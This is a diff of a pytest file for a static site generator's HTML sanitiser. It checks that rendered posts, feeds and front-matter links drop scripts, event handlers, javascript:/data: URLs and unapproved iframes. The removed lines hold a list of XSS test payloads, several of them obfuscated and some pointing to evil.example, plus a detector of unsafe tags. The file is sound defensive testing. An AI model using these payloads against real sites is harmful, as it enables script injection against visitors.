@@ -3,125 +3,11 @@ reader's browser, on the page or in a feed. Checked with a real HTML parser."""
 
 from __future__ import annotations
 
-import xml.etree.ElementTree as ET
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
-from support import BASE_URL, PNG, Html, build, make_site, out, parse, read, run, tree
-
-from sharesite.render.theme import builtin_theme_dir
-
-EMBED_HOSTS = {"www.youtube.com", "youtube.com", "www.youtube-nocookie.com", "player.vimeo.com",
-               "docs.google.com", "drive.google.com", "view.officeapps.live.com",
-               "onedrive.live.com", "forms.office.com", "forms.microsoft.com"}
-URL_ATTRS = {"href", "src", "action", "formaction", "poster", "data", "background", "srcset",
-             "xlink:href", "cite", "ping", "srcdoc"}
-NEVER = {"object", "embed", "applet", "frame", "frameset", "base"}
-NOT_IN_CONTENT = NEVER | {"style", "form", "input", "button", "meta", "link", "textarea",
-                          "select", "svg", "math", "script"}
-
-
-# The built-in theme's own scripts, loaded by address from the site itself (no inline code).
-THEME_SCRIPTS = {urlsplit(BASE_URL).path + p.name
-                 for p in (builtin_theme_dir() / "static").glob("*.js")}
-
-
-def unsafe(html: str, content: bool = False) -> list[str]:
-    """What in `html` could run script or frame another site. `content=True` is stricter:
-    for the HTML made from Markdown (no forms, styles or meta there)."""
-    doc = Html(html)
-    problems = []
-    for tag, attrs in doc.tags:
-        if tag == "script" and (content or (attrs.get("type") != "application/ld+json"
-                                            and attrs.get("src") not in THEME_SCRIPTS)):
-            problems.append(f"<script {attrs}>")
-        if tag in (NOT_IN_CONTENT if content else NEVER):
-            problems.append(f"<{tag}>")
-        for name, value in attrs.items():
-            if name.startswith("on"):
-                problems.append(f"<{tag} {name}={value!r}>")
-            if name in URL_ATTRS and value is not None:
-                squashed = "".join(ch for ch in value if ch > " ").lower()
-                if squashed.startswith(("javascript:", "vbscript:", "data:")):
-                    problems.append(f"<{tag} {name}={value!r}>")
-            if name == "style" and value and ("url(" in value or "expression" in value):
-                problems.append(f"<{tag} style={value!r}>")
-        if tag == "iframe":
-            src = urlsplit(str(attrs.get("src") or ""))
-            host = src.hostname or ""
-            if src.scheme != "https" or not (host in EMBED_HOSTS
-                                              or host.endswith(".sharepoint.com")):
-                problems.append(f"<iframe {attrs}>")
-            if "srcdoc" in attrs:
-                problems.append("<iframe srcdoc>")
-    for _, body in doc.scripts:
-        if "</" in body.lower() or "<!--" in body:
-            problems.append("a script element that closes early")
-    return problems
-
-
-def prose(page: str) -> str:
-    """The HTML made from a post's Markdown."""
-    start = page.index('<div class="prose">') + len('<div class="prose">')
-    return page[start:page.index("</article>")]
-
-
-ATOM = "{http://www.w3.org/2005/Atom}"
-RSS_CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"
-
-
-def feed_html(path: Path) -> list[str]:
-    """Every fragment a feed reader shows as HTML, unescaped: Atom content/summary of
-    type html, RSS description and content:encoded (HTML by convention)."""
-    root = ET.fromstring(path.read_bytes())
-    found: list[str] = []
-    for element in root.iter():
-        atom_html = element.tag in (f"{ATOM}content", f"{ATOM}summary", f"{ATOM}title") and \
-            element.get("type") in ("html", "xhtml")
-        if atom_html or element.tag in ("description", RSS_CONTENT):
-            found.append(element.text or "")
-    return found
-
-
-PAYLOADS = {
-    "script": "<script>alert('script')</script>",
-    "img-onerror": "<img src=x onerror=alert(1) alt=\"x\">",
-    "js-link": "[plain](javascript:alert(1))",
-    "js-link-mixed-case": "[mixed](JaVaScRiPt:alert(1))",
-    "js-link-entity": "[entity](&#106;avascript:alert(1))",
-    "js-link-tab": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
-    "js-link-space": "[space]( javascript:alert(1))",
-    "js-image": "![pic](javascript:alert(1))",
-    "attr-list-paragraph": 'A paragraph with attributes\n{: onclick="alert(1)" }',
-    "attr-list-heading": '## A heading {: onclick="alert(2)" onmouseover="alert(3)" }',
-    "fence-info": '```{ .python onclick="alert(4)" }\nprint("hi")\n```',
-    "data-link": '<a href="data:text/html,<script>alert(5)</script>">data</a>',
-    "data-link-md": "[datamd](data:text/html;base64,PHNjcmlwdD4=)",
-    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
-    "svg-onload": '<svg onload="alert(6)"><circle r="1"/></svg>',
-    "style": "<style>body { display: none }</style>",
-    "style-attr": '<p style="background:url(javascript:alert(1))">styled</p>',
-    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
-    "object": '<object data="https://evil.example/x.swf"></object>',
-    "embed": '<embed src="https://evil.example/x.swf">',
-    "base": '<base href="https://evil.example/">',
-    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    "div-mouseover": '<div onmouseover="alert(7)">hover</div>',
-    "iframe-srcdoc": '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
-    "details-ontoggle": '<details open ontoggle="alert(9)"><summary>s</summary>d</details>',
-    "heading-id": '## Breakout {#x" onmouseover="alert(10)}',
-    "js-link-percent": "[pct](%6Aavascript:alert(11))",
-    "js-link-newline": '<a href="java\nscript:alert(12)">nl</a>',
-    "upper-script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "split-script": "<scr<script>ipt>alert(13)</scr</script>ipt>",
-    "srcset": '<img src="x.png" srcset="javascript:alert(14) 1x" alt="s">',
-    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
-    "svg-use": '<svg><use href="data:image/svg+xml,<svg onload=alert(17)>"/></svg>',
-    "autolink-js": "<javascript:alert(18)>",
-    "ref-link-js": "[ref][r]\n\n[r]: javascript:alert(19)",
-    "img-dynsrc": '<img dynsrc="javascript:alert(20)" lowsrc="javascript:alert(21)" alt="d">',
-}
+from payloads import PAYLOADS
+from support import PNG, build, feed_html, make_site, out, parse, prose, read, run, tree, unsafe
 
 EMBEDS = {
     "youtube-nocookie": "https://www.youtube-nocookie.com/embed/abc",
@@ -241,6 +127,25 @@ def test_blocked_embeds_are_removed_with_a_warning(built: tuple[Path, str]) -> N
         assert expected in stderr.splitlines(), stderr
 
 
+def test_embeds_cannot_ask_for_camera_or_come_from_any_sharepoint_page(tmp_path: Path) -> None:
+    site = make_site(tmp_path, {"content/posts/2024-01-05-embeds.md": """\
+        ---
+        title: Embeds
+        ---
+        <iframe src="https://forms.office.com/r/abc" title="Form"
+                allow="camera; microphone; fullscreen"></iframe>
+
+        <iframe src="https://evil.sharepoint.com/sites/x/page.aspx" title="Page"></iframe>
+        """})
+    result = run(site, "build")
+    assert result.exit_code == 0
+    html = read(site, "posts/embeds/index.html")
+    assert '<iframe src="https://forms.office.com/r/abc" title="Form" allow="fullscreen">' in html
+    assert "evil.sharepoint.com" not in html
+    assert ("content/posts/2024-01-05-embeds.md:7: warning: the embedded frame from "
+            "'https://evil.sharepoint.com/sites/x/page.aspx' was removed") in result.stderr
+
+
 def test_removed_elements_are_gone(built: tuple[Path, str]) -> None:
     site, _ = built
     tags = {t for t, _ in parse(prose(read(site, "posts/payloads/index.html"))).tags}
@@ -348,34 +253,38 @@ def test_front_matter_in_feeds(hostile: Path) -> None:
             assert unsafe(fragment, content=True) == [], rel
 
 
-@pytest.mark.parametrize(("file", "text", "page"), [
+NOT_A_WEB_ADDRESS = "is not a web address (write a full address like https://example.org/page"
+
+
+@pytest.mark.parametrize(("file", "text", "message"), [
     ("content/resources/r/index.md",
      "---\ntitle: R\ndate: 2024-01-01\nadapted_from:\n  - title: Original\n"
      "    url: \"javascript:alert(1)\"\n---\nBody.\n",
-     "resources/r/index.html"),
+     f"5: adapted_from: url: 'javascript:alert(1)' {NOT_A_WEB_ADDRESS} or a path on this "
+     "site like /resources/x/)"),
     ("content/resources/r/index.md",
      "---\ntitle: R\ndate: 2024-01-01\nadapted_from:\n  - title: Original\n"
      "    url: \"data:text/html,<script>alert(1)</script>\"\n---\nBody.\n",
-     "resources/r/index.html"),
+     f"5: adapted_from: url: 'data:text/html,<script>alert(1)</script>' {NOT_A_WEB_ADDRESS} "
+     "or a path on this site like /resources/x/)"),
     ("content/authors/evil.md",
      "---\nname: Evil\nlinks:\n  - title: Home\n    url: \"javascript:alert(1)\"\n---\nBio.\n",
-     "authors/evil/index.html"),
+     f"4: links: url: 'javascript:alert(1)' {NOT_A_WEB_ADDRESS})"),
     ("content/authors/evil.md",
      "---\nname: Evil\nlinks:\n  - title: Home\n    url: \" JaVaScRiPt:alert(1)\"\n---\nB.\n",
-     "authors/evil/index.html"),
+     f"4: links: url: 'JaVaScRiPt:alert(1)' {NOT_A_WEB_ADDRESS})"),
 ], ids=["adapted-from-javascript", "adapted-from-data", "author-link-javascript",
         "author-link-mixed-case"])
 def test_urls_in_front_matter_cannot_be_javascript(tmp_path: Path, file: str, text: str,
-                                                   page: str) -> None:
+                                                   message: str) -> None:
     """adapted_from urls and author links become hrefs: a javascript: or data: URL there
-    must be refused (an error naming the line) or dropped, never written as a link."""
+    is refused (an error naming the line), never written as a link."""
     site = make_site(tmp_path, {file: text,
                                 "content/posts/2024-01-01-p.md": "---\ntitle: P\n---\nx\n"})
     result = run(site, "build")
-    if result.exit_code == 1:
-        assert any(line.startswith(f"{file}:") for line in result.lines), result.stderr
-        return
-    assert unsafe(read(site, page)) == []
+    assert result.exit_code == 1
+    assert result.lines[:-1] == [f"{file}:{message}"]
+    assert not out(site).exists()  # nothing published
 
 
 # --- the documented opt-out ---------------------------------------------------------------
